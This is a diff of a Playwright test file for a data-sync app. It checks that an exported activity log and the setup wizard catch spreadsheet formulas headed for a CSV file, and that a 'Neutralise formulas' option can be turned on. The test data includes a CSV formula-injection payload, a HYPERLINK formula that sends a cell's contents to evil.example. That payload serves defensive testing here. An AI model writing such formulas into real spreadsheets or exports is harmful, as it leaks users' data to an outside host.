@@ -1,11 +1,13 @@
 // Privacy and data at rest (issue 13 §3) in Chromium against the headless server: the activity
-// log exported to a CSV file through a real download.
+// log exported to a CSV file through a real download; the wizard's warning about formulas that
+// would be written into a CSV app.
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { createCustomersPair, syncAndWait } from './api';
+import { createCustomersPair, invoke, syncAndWait } from './api';
 import { NOW_SQL, createCustomersDb, execDb, writeCsv } from './app-files';
 import { expect, screenshotPath, test } from './fixtures';
 import { PairDetailPage } from './pages/pair-detail-page';
+import { WizardPage } from './pages/wizard-page';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Paris")';
 
@@ -40,4 +42,40 @@ test('the activity log downloads as a CSV file whose formula-like values a sprea
   expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
   await expect(app.getByText(/^Exported \d+ activity entries to concord-activity-/)).toBeVisible();
   await app.screenshot({ path: screenshotPath('activity-export') });
+});
+
+test('the wizard warns that a CSV app would receive formulas and turns "Neutralise formulas" on from the preview', async ({ app, concord }) => {
+  const db = join(concord.workDir, 'shop.sqlite');
+  const csv = join(concord.workDir, 'customers.csv');
+  createCustomersDb(db, [
+    { email: 'ann@example.com', name: 'Ann Archer', city: FORMULA },
+    { email: 'bob@example.com', name: 'Bob Baker', city: 'Berlin' },
+  ]);
+  writeCsv(csv, []);
+  const wizard = new WizardPage(app);
+  await app.getByRole('button', { name: 'Create a pair' }).click();
+  await wizard.expectStep('App A');
+  await wizard.fillConnection('SQLite table', 'Shop database', db);
+  await wizard.next();
+  await wizard.expectStep('App B');
+  await wizard.chooseConnector('CSV file');
+  await wizard.fillConnection('CSV file', 'Customer sheet', csv);
+  // Off by default: the form shows the setting unticked.
+  await expect(app.getByRole('checkbox', { name: 'Neutralise formulas' })).not.toBeChecked();
+  await wizard.next();
+  await wizard.expectStep('Collections');
+  await wizard.next();
+  await wizard.expectStep('Field mapping');
+  await wizard.next();
+  await wizard.expectStep('Matching');
+  await app.getByRole('button', { name: 'Preview the first sync' }).click();
+  const warning = app.getByRole('note', { name: 'Formulas written into App B' });
+  await expect(warning).toContainText('App B would receive 1 value that a spreadsheet runs as a formula');
+  await expect(warning).toContainText(FORMULA);
+  await app.screenshot({ path: screenshotPath('wizard-formula-warning'), fullPage: true });
+  await warning.getByRole('button', { name: 'Turn on “Neutralise formulas” for App B' }).click();
+  await expect(app.getByText('"Neutralise formulas" is on for Customer sheet.')).toBeVisible();
+  await expect(warning).toHaveCount(0);
+  const saved = (await invoke(app, concord, 'connections/list', {})).find((c) => c.name === 'Customer sheet');
+  expect(saved?.config).toMatchObject({ neutraliseFormulas: true });
 });
